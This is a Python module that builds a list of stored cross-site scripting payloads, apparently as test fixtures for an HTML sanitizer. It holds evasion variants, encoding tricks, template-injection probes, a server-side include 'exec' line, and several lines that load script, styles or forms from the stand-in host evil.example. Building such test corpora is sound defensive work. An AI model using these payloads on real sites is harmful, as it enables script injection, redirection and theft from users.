"""What strangers may write so that a page acts: ways of stored cross-site scripting, each with a sign of its own.

The families are those of https://cheatsheetseries.owasp.org (XSS Filter Evasion); the payloads are ours.
"""

from __future__ import annotations

from itertools import product

DONE = "window.acted=(window.acted||0)+1"
"""What each of them wants to run."""
_EVENTS = (
    "onload",
    "onerror",
    "onclick",
    "onmouseover",
    "onfocus autofocus",
    "ontoggle",
    "onanimationstart",
    "onpointerenter",
    "onwheel",
    "onbegin",
)
_ELEMENTS = (
    "img src=x",
    "svg",
    "body",
    "details open",
    "input",
    "video src=x",
    "iframe src=x",
    "marquee",
    "a href=#",
    "object data=x",
)
_QUOTES = ('"', "'", "`", "", "&quot;", '\\"')
_LINKS = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\x01javascript:", "&#106;avascript:",
    "javascript&colon;", "vbscript:", "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD4=", "//evil.example/", "\\\\evil.example\\",
)  # fmt: skip
_CLOSED_BY = (
    "</script>",
    "</style>",
    "</title>",
    "</textarea>",
    "</noscript>",
    "</template>",
    "</svg>",
    "</math>",
    "-->",
    "]]>",
    "</pre>",
    "</select>",
)
_WHOLE = (
    f"<script>{DONE}</script>",
    f"<SCRIPT/x>{DONE}</SCRIPT>",
    f"<scr<script>ipt>{DONE}</scr</script>ipt>",
    f"<<script>{DONE}//<</script>",
    "<script src=https://evil.example/x.js></script>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    f"<iframe srcdoc='<script>parent.{DONE}</script>'>",
    "<form action=https://evil.example/><button>Search</button>",
    "<input type=hidden name=mark value=mine>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={DONE}>'>",
    f"<svg><animate onbegin={DONE} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg onload={DONE}>'/></svg>",
    "<style>@import 'https://evil.example/x.css'; body { display: none }</style>",
    "<div style='background:url(https://evil.example/x)'>",
    f"{{{{ self.__init__.__globals__ }}}} {{% for x in y %}} ${{{DONE}}} #{{{DONE}}} <%= {DONE} %>",
    f'{{"a": "</script><script>{DONE}</script>"}}',
    f"\u2028{DONE}\u2029",
    f"\x00<script>{DONE}</script>\x00",
    f"＜script＞{DONE}＜/script＞",
    f"+ADw-script+AD4-{DONE}+ADw-/script+AD4-",
    f"%3Cscript%3E{DONE}%3C/script%3E",
    f"&lt;script&gt;{DONE}&lt;/script&gt;",
    f"\ud83d<script>{DONE}</script>",
    f"\u202e<script>{DONE}</script>\u2066",
    f"[click](javascript:{DONE}) ![x](https://evil.example/x)",
    f"'-{DONE}-'",
    f"\\u003cscript\\u003e{DONE}\\u003c/script\\u003e",
    "<!--#exec cmd='id'--><?php echo 1 ?>",
)  # fmt: skip
HOSTILE_TEXTS = (
    *_WHOLE,
    *(f"<{element} {event}={DONE}>" for element, event in product(_ELEMENTS, _EVENTS)),
    *(f"{quote} onmouseover={DONE} autofocus onfocus={DONE} x={quote}" for quote in _QUOTES),
    *(f"<a href='{link}{DONE}'>x</a>" for link in _LINKS),
    *(f"{end}<img src=x onerror={DONE}>" for end in _CLOSED_BY),
)
